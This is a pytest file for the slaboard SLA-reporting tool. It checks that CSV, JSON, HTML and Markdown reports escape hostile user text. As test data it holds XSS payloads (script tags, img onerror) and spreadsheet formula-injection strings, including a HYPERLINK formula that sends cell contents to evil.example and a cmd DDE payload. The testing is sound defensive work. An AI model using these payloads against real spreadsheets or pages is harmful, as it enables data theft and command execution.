"""The exports parsed back (CSV and JSON: numbers as numbers, instants in ISO-8601,
one row per group), the customer's report (Markdown and one self-contained HTML
page) checked for its sections and its escaping, and the command line that writes
them. The history is the one of test_figures, plus one customer whose name, call
title and justification are hostile markup."""

from __future__ import annotations

import csv
import html
import io
import json
import re
import sqlite3
from datetime import datetime
from html.parser import HTMLParser
from pathlib import Path

import pytest

from slaboard.cli import main
from slaboard.reports import document, export
from slaboard.reports.export import CSV_COLUMNS
from slaboard.reports.figures import Report, build_report, parse_period
from slaboard.services.loading import load_files
from slaboard.services.tickets import NewCall, open_call, update_ticket
from slaboard.store import Store

from .test_figures import (
    J_MAIL,
    J_PRIORITY,
    J_RESOLUTION,
    J_RESPONSE,
    NOW,
    R_PAUSE,
    SCRIPT_TITLE,
    VDB_NAME,
    at,
    build_history,
)

EVIL_NAME = "<b>O'Brien & \"Sons\"</b> <script>alert('name')</script>"
EVIL_TITLE = "<script>alert('title')</script> & <img src=x onerror=alert(1)>"
EVIL_WHY = "<img src=x onerror=alert('why')> \"late\" & sorry"
EVIL_SERVICE = "<i>Kiosk</i> | *tills* & [card](x)"
EVIL_FILE = """\
[services.kiosk]
name = "<i>Kiosk</i> | *tills* & [card](x)"

[customers.evil]
name = "<b>O'Brien & \\"Sons\\"</b> <script>alert('name')</script>"
code = "EVL"
tz = "Europe/Amsterdam"

[[contracts]]
customer = "evil"
level = "gold"
valid_from = 2026-01-01
valid_to = 2027-12-31
services = ["email", "kiosk"]
overrides = { kiosk = { resolution = "2h" } }
price_per_month = 100
hourly_rate = 90
"""
NOW_ISO = NOW.isoformat()


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """test_figures' history plus a hostile customer: a Gold P1 e-mail call reported
    Wed 22 Jul 10:00, resolved 12:00 (2h of 1h: 3600 late), justified."""
    base = tmp_path_factory.mktemp("exports")
    path = build_history(base / "r.db").path
    extra = base / "evil.toml"
    extra.write_text(EVIL_FILE, encoding="utf-8")
    with Store.open(path) as store:
        load_files(store, [extra], at("2026-07-20 09:00"))
        when = at("2026-07-22 10:00")
        ticket = open_call(store, NewCall(customer="EVL", service="email", title=EVIL_TITLE, impact=1, urgency=1,
                                          reported_at=when), "ann", when).ticket
        update_ticket(store, ticket.id, operator="ann", now=at("2026-07-22 10:05"), status="in_progress")
        update_ticket(store, ticket.id, operator="ann", now=at("2026-07-22 12:00"), status="resolved",
                      justification=EVIL_WHY)
    return path


@pytest.fixture
def store(db: Path):
    with Store.open(db) as s:
        yield s


def report(store: Store, period: str = "2026-07", grouping: str = "level", customer: str | None = "VDB") -> Report:
    return build_report(store, parse_period(period, today=NOW.date()), NOW, grouping=grouping, customer=customer)


# --------------------------------------------------------------------- CSV and JSON

INTS = ("opened", "resolved", "response_met", "response_missed", "resolution_met", "resolution_missed",
        "open_breached", "paused_s", "billable_calls")
FLOATS = ("billable_hours", "billable_amount")


def test_csv_parses_back_one_row_per_group_and_the_total(store):
    r = report(store, grouping="level", customer=None)
    rows = list(csv.DictReader(io.StringIO(export.to_csv(r))))
    assert list(rows[0]) == [*CSV_COLUMNS, "period_from", "period_to", "grouping"]
    assert [row["group"] for row in rows] == ["Gold", "Silver", "none", "total"]
    for row in rows:
        for name in INTS:
            int(row[name])
        for name in FLOATS:
            float(row[name])
        for name in CSV_COLUMNS:
            if name.endswith(("_share", "_s")) and row[name] != "":
                float(row[name])
        assert (row["period_from"], row["period_to"], row["grouping"]) == ("2026-07-01", "2026-07-31", "level")
    silver, none, total = rows[1], rows[2], rows[3]
    # The Silver figures of test_figures (Van den Berg in July).
    assert {k: int(silver[k]) for k in INTS} == {
        "opened": 10, "resolved": 9, "response_met": 8, "response_missed": 1, "resolution_met": 5,
        "resolution_missed": 3, "open_breached": 1, "paused_s": 32400, "billable_calls": 1}
    assert float(silver["resolution_met_share"]) == 0.625
    assert float(silver["response_met_share"]) == pytest.approx(8 / 9)
    assert int(silver["resolve_business_median_s"]) == 12600 and int(silver["respond_calendar_mean_s"]) == 5000
    assert (float(silver["billable_hours"]), float(silver["billable_amount"])) == (2.5, 222.5)
    # No contract: billable only, no targets (an empty share, not 0).
    assert (int(none["opened"]), float(none["billable_amount"]), none["resolution_met_share"]) == (1, 165.0, "")
    # Gold: HGG (met) and the hostile customer's P1 e-mail (missed): 2 opened, resolution 1/1.
    gold = rows[0]
    assert (int(gold["opened"]), int(gold["resolution_met"]), int(gold["resolution_missed"])) == (2, 1, 1)
    assert int(total["opened"]) == 13 and float(total["billable_amount"]) == 387.5


# Customers whose names a spreadsheet would run as formulas, each with one call in
# July. (A leading tab or carriage return is stripped when the contract file is
# loaded, so those two of OWASP's list are checked on spreadsheet_cell alone.)
FORMULA_NAMES = ('=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)")


@pytest.fixture(scope="module")
def formula_db(db: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    base = tmp_path_factory.mktemp("formulas")
    copy = base / "f.db"
    src, dst = sqlite3.connect(db), sqlite3.connect(copy)
    src.backup(dst)
    src.close()
    dst.close()
    extra = base / "formulas.toml"
    extra.write_text("".join(f"[customers.f{n}]\nname = {json.dumps(name)}\ncode = \"F{n}\"\ntz = \"Europe/Amsterdam\"\n\n"
                             for n, name in enumerate(FORMULA_NAMES)), encoding="utf-8")
    with Store.open(copy) as store:
        load_files(store, [extra], at("2026-07-20 09:00"))
        when = at("2026-07-23 10:00")
        for n in range(len(FORMULA_NAMES)):
            open_call(store, NewCall(customer=f"F{n}", service="email", title="=1+1", reported_at=when), "ann", when)
    return copy


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_a_cell_that_starts_like_a_formula_is_shown_as_text(text):
    assert export.spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Acme", "", " =1", "1-2", "a=b", "'=1", 0, -5, -0.5, 2.5, None])
def test_other_cells_and_numbers_are_left_as_they_are(value):
    # Numbers slaboard writes stay numbers, negative ones too: a spreadsheet reads
    # them as values, and a tool reading the CSV still gets a number.
    assert export.spreadsheet_cell(value) == value


def test_csv_text_escapes_headers_and_cells_and_keeps_numbers():
    text = export.csv_text(["name", "late_s"], [{"name": "=cmd()", "late_s": -5}])
    assert list(csv.reader(io.StringIO(text))) == [["name", "late_s"], ["'=cmd()", "-5"]]


def test_csv_never_starts_a_cell_with_a_formula(formula_db):
    with Store.open(formula_db) as store:
        r = report(store, grouping="customer", customer=None)
    rows = list(csv.DictReader(io.StringIO(export.to_csv(r))))
    groups = [row["group"] for row in rows]
    for name in FORMULA_NAMES:
        assert "'" + name in groups
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    # The figures are still numbers, read back as before.
    assert int(rows[-1]["opened"]) == 13 + len(FORMULA_NAMES)


def test_cli_csv_escapes_a_hostile_customer_name(formula_db, run, monkeypatch):
    monkeypatch.setenv("SLABOARD_DB", str(formula_db))
    monkeypatch.setenv("SLABOARD_NOW", NOW_ISO)
    code, text, err = run("report", "--period", "2026-07", "--by", "customer", "--format", "csv")
    assert code == 0, err
    rows = {row["group"]: row for row in csv.DictReader(io.StringIO(text))}
    assert int(rows["'" + FORMULA_NAMES[0]]["opened"]) == 1
    assert not any(key.startswith(("=", "+", "-", "@")) for key in rows)


def test_json_parses_back_with_numbers_and_iso_instants(store):
    data = json.loads(export.to_json(report(store, "2026-Q3")))
    assert data["period"] == {"label": "Q3 2026", "from": "2026-07-01", "to": "2026-09-30", "tz": "Europe/Amsterdam",
                              "edges": "customer"}
    assert datetime.fromisoformat(data["generated_at"]) == NOW
    assert (data["customer"], data["customer_name"], data["grouping"]) == ("vdberg-transport", VDB_NAME, "level")
    total = data["total"]
    assert total["opened"] == 10 and type(total["opened"]) is int
    assert total["resolution_met_share"] == 0.625 and type(total["resolution_met_share"]) is float
    assert total["resolve_business_mean_s"] == 13388 and total["billable_amount"] == 222.5
    assert total["paused_by_reason_s"] == {R_PAUSE: 21600, "resolved, then reopened": 10800}
    assert [g["group"] for g in data["groups"]] == ["Silver"]
    assert [m["group"] for m in data["months"]] == ["2026-07", "2026-08", "2026-09"]
    assert data["months"][1]["resolution_met_share"] is None
    misses = data["worst_misses"]
    assert [m["justification"] for m in misses] == [J_PRIORITY, J_MAIL, J_RESOLUTION, J_RESPONSE]
    for m in misses:
        moment = datetime.fromisoformat(m["stopped_at"])
        assert moment.tzinfo is not None
        assert type(m["late_seconds"]) is int and type(m["ticket_id"]) is int
    assert datetime.fromisoformat(misses[0]["stopped_at"]) == at("2026-07-14 14:30")
    # Both versions of the contract the period's calls were held to (it changed mid-July).
    assert [c["version"] for c in data["contracts"]] == [1, 2]
    for contract in data["contracts"]:
        assert contract["valid_from"] == "2026-01-01" and contract["price_per_month"] == 1450.0
    assert data["calls_per_level_by_month"]["2026-07"] == {"Silver": 10}


# --------------------------------------------------------------------- the customer's report


class Tags(HTMLParser):
    """Every start tag, and the text outside tags."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


def parse(page: str) -> Tags:
    tags = Tags()
    tags.feed(page)
    tags.close()
    return tags


def test_html_has_its_sections(store):
    page = document.to_html(report(store, "2026-Q3"))
    tags = parse(page)
    names = [t for t, _ in tags.tags]
    text = " ".join(" ".join(tags.text).split())
    assert page.startswith("<!DOCTYPE html>") and page.count("<html") == 1
    ids = [a.get("id") for _, a in tags.tags if a.get("id")]
    for section in ("summary", "contract", "figures", "chart", "misses"):
        assert section in ids
    # Title: customer, period, the MSP.
    assert f"SLA report: {VDB_NAME}" in text and "Q3 2026" in text and "Polder IT Services B.V." in text
    assert "1 July 2026 to 30 September 2026" in text and "prepared on 5 October 2026" in text
    # Contract summary: level, services by name, hours, targets, override, price, rate, validity.
    contract = page[page.index('id="contract"'):page.index('id="figures"')]
    assert "Silver" in text and "Workstations" in contract and "Line-of-business apps" in contract
    assert "lob-apps" not in contract and "workstations" not in contract  # names, not keys
    assert "<dt>Service hours</dt><dd>mon-fri 07:00-22:00; sat 09:00-13:00, Europe/Amsterdam</dd>" in contract
    assert "€1,450.00" in text and "€89.00" in text and "1 January 2026 to 31 December 2027" in text
    assert "<strong>E-mail</strong>: resolution within 2 h, whatever the priority" in contract
    assert "1 business day" in text and "30 min" in text
    # Figures: met/missed with share, open breached, times, paused by reason, billable.
    assert "8 of 9 (88.9%)" in text and "5 of 8 (62.5%)" in text
    assert "3 h 30 min" in text  # median business time to resolve: 12600 s
    assert "8 h 13 min" in text  # mean calendar time to resolve: 29587.5 s
    assert "23 min" in text and "15 min" in text  # mean 1400 s and median 900 s to respond
    assert R_PAUSE in text and "6 h 00 min" in text and "9 h 00 min" in text  # 21600 s; 32400 s in all
    assert "€222.50" in text and "2.5 h" in text
    # The chart: one inline SVG with an accessible title, axis 0-100 %, months, values.
    assert names.count("svg") == 1 and "title" in names and "desc" in names
    svg = page[page.index("<svg"):page.index("</svg>")]
    for label in ("0%", "25%", "50%", "75%", "100%", "Jul", "Aug", "Sep", "62.5%", "5 of 8", "none due"):
        assert f">{label}<" in svg, label
    assert "aria-labelledby" in svg and 'role="img"' in svg
    # The misses, most late first, with their justifications.
    misses = page[page.index('id="misses"'):]
    late = re.findall(r'<tr><td>#\d+</td><td>.*?</td><td>.*?</td><td class="num">(.*?)</td>', misses)
    assert late == ["1 h 30 min", "45 min", "30 min", "15 min"]  # 5400, 2700, 1800, 900 s
    for why in (J_PRIORITY, J_MAIL, J_RESOLUTION, J_RESPONSE):
        assert why in text
    assert "Resolution within 4 h" in text and "Response within 30 min" in text
    assert "14 Jul 2026 14:30" in text  # stopped, in the customer's zone


def test_html_is_self_contained_and_prints(store):
    page = document.to_html(report(store, "2026-Q3"))
    tags = parse(page)
    names = {t for t, _ in tags.tags}
    assert not names & {"script", "link", "iframe", "img", "object", "embed", "base"}
    assert "http" not in page.lower()
    assert "url(" not in page and "@import" not in page and "@font-face" not in page
    assert not any(k.lower().startswith("on") for _, a in tags.tags for k in a)
    assert all("src" not in a and "href" not in a for _, a in tags.tags)
    assert "style" in names
    css = page[page.index("<style>"):page.index("</style>")]
    assert "@media print" in css and "@page" in css and "A4" in css
    assert "break-inside: avoid" in css and "page-break-inside: avoid" in css
    # No dark backgrounds: every background colour is light.
    for colour in re.findall(r"background(?:-color)?:\s*(#[0-9a-fA-F]{6})", css):
        r, g, b = (int(colour[i:i + 2], 16) for i in (1, 3, 5))
        assert 0.2126 * r + 0.7152 * g + 0.0722 * b > 200, colour


def test_html_escapes_user_text(store):
    page = document.to_html(report(store, customer="EVL"))
    tags = parse(page)
    names = [t for t, _ in tags.tags]
    assert "script" not in names and "img" not in names and "b" not in names
    assert "<script" not in page.lower() and "<img" not in page.lower()
    text = " ".join(tags.text)
    # Shown as written, escaped in the source.
    assert EVIL_NAME in text and EVIL_TITLE in text and EVIL_WHY in text
    for raw in (EVIL_NAME, EVIL_TITLE, EVIL_WHY):
        assert html.escape(raw, quote=True) in page
    assert "&lt;script&gt;alert(&#x27;title&#x27;)&lt;/script&gt;" in page
    # The contract's own text too: a service name from the contract file.
    assert "i" not in names and EVIL_SERVICE in text
    assert f"<dd>E-mail, {html.escape(EVIL_SERVICE)}</dd>" in page
    assert f"<strong>{html.escape(EVIL_SERVICE)}</strong>: resolution within 2 h" in page
    # and the <title> of the page holds the escaped name too
    head = page[:page.index("</head>")]
    assert "&lt;b&gt;O&#x27;Brien &amp; &quot;Sons&quot;&lt;/b&gt;" in head


def test_html_escapes_titles_and_justifications_of_a_known_customer(store):
    page = document.to_html(report(store))
    assert "<script" not in page.lower()
    assert "Mail bounces &lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt; &amp; &quot;quotes&quot;" in page
    assert "Replacement &lt;b&gt;SSD&lt;/b&gt; delivered late &amp; &quot;courier&quot; lost it" in page
    assert SCRIPT_TITLE in " ".join(parse(page).text)


def test_html_without_calls_or_contract(store):
    quiet = document.to_html(report(store, "2026-Q3", customer="TZK"))  # a contract, no calls
    text = " ".join(parse(quiet).text)
    assert "No target was missed in this period." in text and "No resolution clock was paused." in text
    assert "All calls were covered by the contract." in text
    assert quiet.count(">none due<") == 3
    spaak = document.to_html(report(store, customer="SPK"))  # no contract at all
    text = " ".join(parse(spaak).text)
    assert "No contract was in force in this period" in text
    assert "€165.00" in text and "1.5 h" in text


def test_html_and_markdown_are_pure(store):
    r = report(store, "2026-Q3")
    assert document.to_html(r) == document.to_html(r)
    assert document.to_markdown(r) == document.to_markdown(r)
    later = build_report(store, parse_period("2026-Q3", today=NOW.date()), at("2026-12-01 09:00"), customer="VDB")
    assert "prepared on 1 December 2026" in document.to_html(later)


def test_markdown_has_its_sections(store):
    md = document.to_markdown(report(store, "2026-Q3"))
    lines = md.splitlines()
    assert lines[0] == f"# SLA report: {VDB_NAME}"
    for heading in ("## At a glance", "## Your contract", "### Silver (version 2)", "## Figures",
                    "### Time to respond, to a plan and to resolve", "### Time paused", "### Work outside the contract",
                    "## Resolved within target, month by month", "## Targets missed"):
        assert heading in lines, heading
    assert "Prepared by Polder IT Services B.V. on 5 October 2026" in md
    assert "- Resolved within target: **62.5%**, 5 of 8" in lines
    assert "| Silver | 10 | 9 | 8 of 9 (88.9%) | 2 of 9 (22.2%) | 5 of 8 (62.5%) | 1 |" in lines
    assert "- Plan (diagnosis and expected time) within target: **22.2%**, 2 of 9" in lines
    assert "| Time to a plan | 9 | 3 h 46 min | 3 h 00 min | 6 h 46 min | 4 h 00 min |" in lines
    assert "| P1 | 30 min | 4 h |" in lines
    assert "- E-mail: resolution within 2 h, whatever the priority" in lines
    assert ("- Services covered: E-mail, Microsoft 365, Network, Workstations, Printing, Telephony, "
            "Line-of-business apps") in lines
    assert "- Service hours: mon-fri 07:00-22:00; sat 09:00-13:00, Europe/Amsterdam" in lines
    # The chart: a text bar per month (20 cells, one per 5 %).
    chart = md[md.index("```text"):md.index("```", md.index("```text") + 3)]
    assert "Jul 2026  " + "█" * 12 + "░" * 8 + "  62.5%  (5 of 8)" in chart  # 0.625 x 20 = 12.5 -> 12
    assert "Aug 2026" in chart and "(no resolution targets due)" in chart
    # The misses with their justifications, Markdown-escaped.
    assert "| #" in md and "Escalated to P1 when the whole warehouse went offline" in md
    assert r'Replacement \<b\>SSD\</b\> delivered late \& "courier" lost it' in md
    assert not re.search(r"(?<!\\)[<>]", md)  # every angle bracket of user text is escaped


def test_markdown_escapes_user_text(store):
    md = document.to_markdown(report(store, customer="EVL"))
    assert not re.search(r"(?<!\\)[<>&]", md)  # inert in CommonMark: \< \> \&
    assert r"\<script\>alert\('title'\)\</script\>" in md
    assert md.splitlines()[0].startswith(r"# SLA report: \<b\>O'Brien \& ")
    escaped_service = r"\<i\>Kiosk\</i\> \| \*tills\* \& \[card\]\(x\)"
    assert f"- Services covered: E-mail, {escaped_service}" in md.splitlines()
    assert f"- {escaped_service}: resolution within 2 h, whatever the priority" in md.splitlines()
    # Table cells stay one cell: the pipe and newlines of user text cannot break the row.
    for line in md.splitlines():
        if line.startswith("| #"):
            assert line.count(" | ") == 5


# --------------------------------------------------------------------- the MSP's review page
#
# July across customers: test_figures' twelve calls plus the hostile customer's Gold P1
# e-mail call, resolved 1 h after its 1 h target. Worst misses: VDB's priority call
# (resolution, 5400 s late), the hostile call (3600), VDB's contract_v2 (2700), missed
# (1800, and its response 900).

HOSTILE = "Printer <script>alert('x')</script> | *on fire* _again_ `now`\nsecond line"


def msp(store: Store, period: str = "2026-07", grouping: str = "level", **kw) -> Report:
    return build_report(store, parse_period(period, today=NOW.date()), NOW, grouping=grouping, **kw)


def section(page: str, name: str) -> str:
    start = page.index(f'<section id="{name}">')
    return page[start:page.index("</section>", start)]


def cells(fragment: str) -> list[list[str]]:
    """The text of each cell of each row of the table in ``fragment``."""
    return [[html.unescape(re.sub(r"<.*?>", "", c)) for c in re.findall(r"<t[hd][^>]*>(.*?)</t[hd]>", row)]
            for row in re.findall(r"<tr[^>]*>(.*?)</tr>", fragment)]


def test_msp_html_has_the_totals_both_groupings_and_the_worst_misses(store):
    page = document.to_html(msp(store))
    tags = parse(page)
    text = " ".join(" ".join(tags.text).split())
    ids = [a["id"] for _, a in tags.tags if a.get("id")]
    assert [i for i in ids if not i.startswith("chart-")] == ["summary", "by-level", "by-customer", "chart", "misses"]
    assert "contract" not in ids and "Your contract" not in text  # nothing of one customer's
    assert "SLA report: all customers" in text and "Polder IT Services B.V." in text
    assert "July 2026" in text and "1 July 2026 to 31 July 2026" in text and "prepared on 5 October 2026" in text
    # Totals: calls, the two shares, the targets missed, the open calls past their deadline.
    summary = " ".join(parse(section(page, "summary")).text)
    for fragment in ("60%", "resolved within target: 6 of 10", "90.9%", "responded within target: 10 of 11",
                     "13", "calls opened, 12 resolved", "targets missed: 1 response, 4 resolution",
                     "open calls past their deadline", "Work outside the contracts: 2 calls, 4 h, €387.50",
                     # the sample levels have escalation rules, and no watcher ran: every miss unwarned
                     "Escalations: Of 5 targets missed, 0 were escalated before their deadline and 5 breached "
                     "without a warning; 0 targets were met after an escalation."):
        assert fragment in summary, fragment
    assert cells(section(page, "by-level")) == [
        ["Service level", "Calls opened", "Calls resolved", "Response within target", "Plan within target",
         "Resolution within target", "Open past deadline"],
        ["Gold", "2", "2", "2 of 2 (100%)", "1 of 2 (50%)", "1 of 2 (50%)", "0"],
        ["Silver", "10", "9", "8 of 9 (88.9%)", "2 of 9 (22.2%)", "5 of 8 (62.5%)", "1"],
        ["none", "1", "1", "no targets due", "no targets due", "no targets due", "0"],
        ["Total", "13", "12", "10 of 11 (90.9%)", "3 of 11 (27.3%)", "6 of 10 (60%)", "1"],
    ]
    assert [row[0] for row in cells(section(page, "by-customer"))] == [
        "Customer", EVIL_NAME, "Fietsenmakerij De Spaak", "Hotel De Gouden Gracht", VDB_NAME, "Total"]
    by_customer = section(page, "by-customer")
    for name in (VDB_NAME, "Hotel De Gouden Gracht", "Fietsenmakerij De Spaak"):
        assert f"<td>{name}</td>" in by_customer
    assert f"<td>{html.escape(EVIL_NAME)}</td>" in by_customer
    # Worst misses: customer, call, title, level, which clock, by how much.
    misses = section(page, "misses")
    rows = re.findall(r"<tr><td>(.*?)</td><td>#(\d+)</td><td>(.*?)</td><td>(.*?)</td><td>(.*?)</td>"
                      r'<td class="num">(.*?)</td>', misses)
    assert [(r[0], r[2], r[3], r[4], r[5]) for r in rows] == [
        (VDB_NAME, "priority call", "Silver", "Resolution within 4 h", "1 h 30 min"),
        (html.escape(EVIL_NAME), html.escape(EVIL_TITLE), "Gold", "Resolution within 1 h", "1 h 00 min"),
        (VDB_NAME, html.escape(SCRIPT_TITLE), "Silver", "Resolution within 2 h", "45 min"),
        (VDB_NAME, "Laptop of the planner will not boot", "Silver", "Resolution within 4 h", "30 min"),
        (VDB_NAME, "Laptop of the planner will not boot", "Silver", "Response within 30 min", "15 min"),
    ]
    assert html.escape(EVIL_WHY) in misses and J_PRIORITY in misses
    assert "worst of" not in misses  # all five are listed
    # One page: no script, nothing from elsewhere; every bit of user text escaped.
    names = {t for t, _ in tags.tags}
    assert not names & {"script", "img", "b", "link", "iframe"} and "http" not in page.lower()
    assert "<script" not in page.lower() and EVIL_NAME in text and EVIL_TITLE in text


def test_msp_worst_misses_are_capped(store):
    r = msp(store, worst=2)
    page, md = document.to_html(r), document.to_markdown(r)
    assert "<p>The 2 worst of 5 missed targets, most late first.</p>" in page
    assert "The 2 worst of 5 missed targets, most late first." in md.splitlines()
    assert section(page, "misses").count("<tr>") == 3  # the header and two calls
    assert len([line for line in md.splitlines() if "| #" in line]) == 2
    assert len(msp(store).misses) == 5  # under the default cap of ten: all of them


def test_msp_markdown_has_its_sections(store):
    md = document.to_markdown(msp(store))
    lines = md.splitlines()
    assert lines[0] == "# SLA report: all customers"
    for heading in ("## At a glance", "## By service level", "## By customer",
                    "## Resolved within target, month by month", "## Worst misses"):
        assert heading in lines, heading
    assert "## Your contract" not in lines and "## Figures" not in lines
    assert "- Targets missed: **5** (1 response, 4 resolution)" in lines
    assert "- Resolved within target: **60%**, 6 of 10" in lines
    assert "| Gold | 2 | 2 | 2 of 2 (100%) | 1 of 2 (50%) | 1 of 2 (50%) | 0 |" in lines
    assert "| **Total** | 13 | 12 | 10 of 11 (90.9%) | 3 of 11 (27.3%) | 6 of 10 (60%) | 1 |" in lines
    assert f"| {VDB_NAME} | 10 | 9 | 8 of 9 (88.9%) | 2 of 9 (22.2%) | 5 of 8 (62.5%) | 1 |" in lines
    assert "- Plan (diagnosis and expected time) within target: **27.3%**, 3 of 11" in lines
    assert "| Customer | Call | Title | Level | Target missed | Late by | Justification |" in lines
    misses = [line for line in lines if "| #" in line]
    assert misses[0].startswith(f"| {VDB_NAME} | #") and "| priority call | Silver | Resolution within 4 h | 1 h 30 min |" in misses[0]
    assert r"| \<b\>O'Brien \& " in misses[1] and "| Gold | Resolution within 1 h | 1 h 00 min |" in misses[1]
    assert not re.search(r"(?<!\\)[<>&]", md)  # every bit of user text is inert
    for line in misses:
        assert line.count(" | ") == 6


def test_msp_page_escapes_a_hostile_title(store):
    r = msp(store)
    r.misses[0].title = HOSTILE
    md = document.to_markdown(r)
    row = next(line for line in md.splitlines() if line.startswith(f"| {VDB_NAME} | #"))
    assert r"Printer \<script\>alert\('x'\)\</script\> \| \*on fire\* \_again\_ \`now\` second line" in row
    assert row.count(" | ") == 6  # the pipe stays inside its cell, the newline inside its row
    page = document.to_html(r)
    assert "<script" not in page.lower()
    assert html.escape(HOSTILE) in page and HOSTILE in " ".join(parse(page).text)


def test_msp_page_follows_another_grouping_too(store):
    r = msp(store, grouping="service")
    page, md = document.to_html(r), document.to_markdown(r)
    ids = [a["id"] for _, a in parse(page).tags if a.get("id")]
    assert ids.index("by-level") < ids.index("by-customer") < ids.index("by-service") < ids.index("misses")
    assert "<td>workstations</td>" in section(page, "by-service")
    assert ["## By service level", "## By customer", "## By service"] == [
        line for line in md.splitlines() if line.startswith("## By ")]
    # --by customer is not repeated
    assert document.to_markdown(msp(store, grouping="customer")).count("## By customer") == 1


def test_msp_page_of_a_quiet_period(store):
    r = msp(store, "2025")
    page, md = document.to_html(r), document.to_markdown(r)
    assert section(page, "by-level").count(document.NO_CALLS) == 1 and "<table" not in section(page, "by-customer")
    assert "No target was missed in this period." in page and "No target was missed in this period." in md
    assert md.count(document.NO_CALLS) == 2


# --------------------------------------------------------------------- the command line


@pytest.fixture
def cli_db(db: Path, tmp_path: Path, monkeypatch) -> Path:
    """A copy of the history for the command line, with the clock fixed."""
    copy = tmp_path / "cli.db"
    src, dst = sqlite3.connect(db), sqlite3.connect(copy)
    src.backup(dst)
    src.close()
    dst.close()
    monkeypatch.setenv("SLABOARD_DB", str(copy))
    monkeypatch.setenv("SLABOARD_NOW", NOW_ISO)
    monkeypatch.setenv("SLABOARD_OPERATOR", "ann")
    return copy


@pytest.fixture
def run(capsys):
    def run(*argv: str) -> tuple[int, str, str]:
        capsys.readouterr()
        try:
            code = main(list(argv))
        except SystemExit as exc:
            code = exc.code
        out, err = capsys.readouterr()
        return code, out, err

    return run


def test_cli_writes_the_html_report(cli_db, run, tmp_path):
    out = tmp_path / "f.html"
    code, stdout, stderr = run("report", "--customer", "VDB", "--period", "2026-Q3", "--format", "html",
                               "--output", str(out))
    assert code == 0, stderr
    assert stdout == "" and f"wrote {out}" in stderr
    page = out.read_text(encoding="utf-8")
    assert page.endswith("\n") and f"SLA report: {VDB_NAME}" in page and "<svg" in page
    assert 'id="misses"' in page and "Escalated to P1" in page


def test_cli_markdown_csv_and_json(cli_db, run, tmp_path):
    code, md, _ = run("report", "--customer", "VDB", "--period", "2026-07", "--format", "md")
    assert code == 0 and md.startswith(f"# SLA report: {VDB_NAME}")
    code, text, _ = run("report", "--period", "2026-07", "--by", "customer", "--format", "csv")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["group"] for r in rows][-1] == "total" and int(rows[-1]["opened"]) == 13
    code, text, _ = run("report", "--customer", "VDB", "--from", "2026-07-01", "--to", "2026-07-31", "--json")
    assert code == 0 and json.loads(text)["total"]["opened"] == 10


def test_cli_without_a_customer_writes_the_msp_page(cli_db, run, tmp_path):
    out = tmp_path / "msp.html"
    code, stdout, stderr = run("report", "--period", "2026-07", "--format", "html", "--output", str(out))
    assert code == 0, stderr
    page = out.read_text(encoding="utf-8")
    assert "SLA report: all customers" in page and 'id="by-customer"' in page and 'id="by-level"' in page
    assert VDB_NAME in page and html.escape(EVIL_NAME) in page and "<script" not in page.lower()
    code, md, stderr = run("report", "--period", "2026-07", "--format", "md")
    assert code == 0, stderr
    assert md.startswith("# SLA report: all customers") and "## Worst misses" in md and "## By customer" in md


@pytest.mark.parametrize("fmt", ["html", "md"])
def test_cli_with_a_customer_is_the_customers_report_as_before(cli_db, run, fmt):
    code, text, stderr = run("report", "--customer", "VDB", "--period", "2026-Q3", "--format", fmt)
    assert code == 0, stderr
    with Store.open(cli_db) as store:
        expected = document.to_html(report(store, "2026-Q3")) if fmt == "html" else document.to_markdown(report(store, "2026-Q3"))
    assert text == expected
    assert "Your contract" in text and "all customers" not in text and "Hotel De Gouden Gracht" not in text


@pytest.mark.parametrize("fmt", ["html", "md", "table"])
def test_cli_an_empty_customer_is_a_mistake_not_every_customer(cli_db, run, tmp_path, fmt):
    out = tmp_path / "f.out"
    code, stdout, stderr = run("report", "--customer", " ", "--format", fmt, "--output", str(out))
    assert code == 2 and stdout == "" and stderr.count("\n") == 1 and "--customer is empty" in stderr
    assert not out.exists()


@pytest.mark.parametrize(
    ("argv", "fragment"),
    [
        (["--period", "2026-Q5"], "use a month"),
        (["--period", "2026-07", "--from", "2026-07-01", "--to", "2026-07-31"], "not both"),
        (["--customer", "nobody-at-all"], "unknown customer"),
        (["--format", "html", "--period", "2026-13"], "month must be 01 to 12"),
        (["--format", "md", "--customer", "nobody-at-all"], "unknown customer"),
        (["--format", "pdf"], "invalid choice"),
        (["--format", "html", "--by", "colour"], "invalid choice"),
    ],
)
def test_cli_report_mistakes_are_one_line(cli_db, run, argv, fragment):
    code, stdout, stderr = run("report", *argv)
    assert code == 2 and stdout == "" and stderr.count("\n") == 1 and fragment in stderr


def test_cli_cannot_write_the_output(cli_db, run, tmp_path):
    code, _, stderr = run("report", "--customer", "VDB", "--format", "html", "--output", str(tmp_path / "no" / "f.html"))
    assert code == 2 and stderr.startswith("slaboard: cannot write") and stderr.count("\n") == 1



def test_plan_figures_in_every_format(store):
    r = report(store, "2026-07")
    t = r.total
    assert t.plan_met + t.plan_missed > 0
    (row,) = [row for row in csv.DictReader(io.StringIO(export.to_csv(r))) if row["group"] == "total"]
    assert (int(row["plan_met"]), int(row["plan_missed"])) == (t.plan_met, t.plan_missed)
    assert int(row["plan_business_median_s"]) == t.to_dict()["plan_business_median_s"]
    assert json.loads(export.to_json(r))["total"]["plan_met_share"] == t.plan_share
    headers, rows = export.table_rows(r)
    assert headers.index("resp %") < headers.index("plan met") < headers.index("resol met")
    assert rows[-1][headers.index("plan met")] == f"{t.plan_met}/{t.plan_met + t.plan_missed}"
    assert "plan med" in export.to_table(r).splitlines()[3]
    assert "Plan within target" in document.to_markdown(r) and "Plan within target" in document.to_html(r)


def test_a_period_without_plan_targets_leaves_the_plan_off_the_pages(store):
    r = report(store, "2026-05")
    assert r.total.plan_met + r.total.plan_missed == 0
    md, page = document.to_markdown(r), document.to_html(r)
    assert "Plan within target" not in md and "Plan within target" not in page
